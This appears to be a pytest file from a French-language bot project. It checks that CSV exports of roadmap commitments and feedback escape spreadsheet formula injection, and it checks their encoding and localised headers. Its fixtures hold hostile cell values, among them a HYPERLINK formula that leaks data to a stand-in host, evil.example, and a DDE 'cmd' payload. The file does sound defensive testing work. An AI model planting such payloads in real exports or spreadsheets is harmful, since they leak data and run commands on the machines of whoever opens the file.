"""Finding "formula injection in both CSV exports", and item 4 (exports officials can open):
';'-separated UTF-8 with a byte-order mark, headers, statuses and access in the interface
language, and no cell a spreadsheet would run."""

from __future__ import annotations

import subprocess
import sys
from datetime import date

import pytest

from tests.conftest import PROJECT_ROOT

HOSTILE = ('=HYPERLINK("http://evil.example/?leak="&A2;"clic")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd")


def _commitment(action: str, access: str):
    from bot.roadmap import Commitment, CommitmentSource

    source = CommitmentSource(path="corpus/note.md", title="Note", date="2026-03-01", doc_type="report", page=None,
                              section="", quote=action, start=0, end=len(action), deadline=date(2026, 6, 30),
                              deadline_text="30 juin 2026", status="late", access=access)
    return Commitment(action=action, owner="=SENUM", commission=None, deadline=date(2026, 6, 30),
                      deadline_text="30 juin 2026", status="late", sources=[source])


def test_roadmap_csv_opens_as_a_french_table_without_formulas() -> None:
    from bot.roadmap import to_csv
    from bot.spreadsheet import read_table

    text = to_csv([_commitment(action, "restricted" if n else "internal") for n, action in enumerate(HOSTILE)])
    assert text.startswith("\ufeffÉchéance;Statut;Responsable;Commission;Action;Échéance (texte);Accès;")
    rows = read_table(text)
    assert [r["Action"] for r in rows] == ["'" + action for action in HOSTILE]
    assert {r["Responsable"] for r in rows} == {"'=SENUM"} and {r["Statut"] for r in rows} == {"en retard"}
    assert [r["Accès"] for r in rows] == ["interne"] + ["restreint"] * (len(HOSTILE) - 1)
    english = read_table(to_csv([_commitment("Former 40 agents", "public")], "en"))
    assert english == [{**english[0], "Action": "Former 40 agents", "Status": "late", "Access": "public"}]


def test_feedback_csv_from_the_cli_has_no_live_formula(fake_settings) -> None:
    from bot.feedback import record_feedback
    from bot.spreadsheet import read_table

    answer = {"answer": "-> voir la note", "sources": []}
    record_feedback(fake_settings, question="@SUM(1+1)", answer=answer, role="reader", rating="down",
                    comment="=cmd|' /C calc'!A0")
    run = subprocess.run([sys.executable, "-m", "bot", "feedback", "--csv", "--store", str(fake_settings.store)],
                         cwd=PROJECT_ROOT, capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr
    assert run.stdout.startswith("\ufeffN°;Date (UTC);Rôle;Avis;Commentaire;Question;Réponse;Sources")
    row = read_table(run.stdout)[0]
    assert row["Commentaire"] == "'=cmd|' /C calc'!A0" and row["Question"] == "'@SUM(1+1)"
    assert row["Réponse"] == "'-> voir la note" and row["Rôle"] == "lecteur" and row["Avis"] == "pas utile"


@pytest.mark.parametrize("cell", ["Former 40 agents", "2026-06-30", "", "SENUM = ASAN", "'déjà"])
def test_ordinary_cells_are_left_as_they_are(cell: str) -> None:
    from bot.spreadsheet import as_text_cell

    assert as_text_cell(cell) == cell
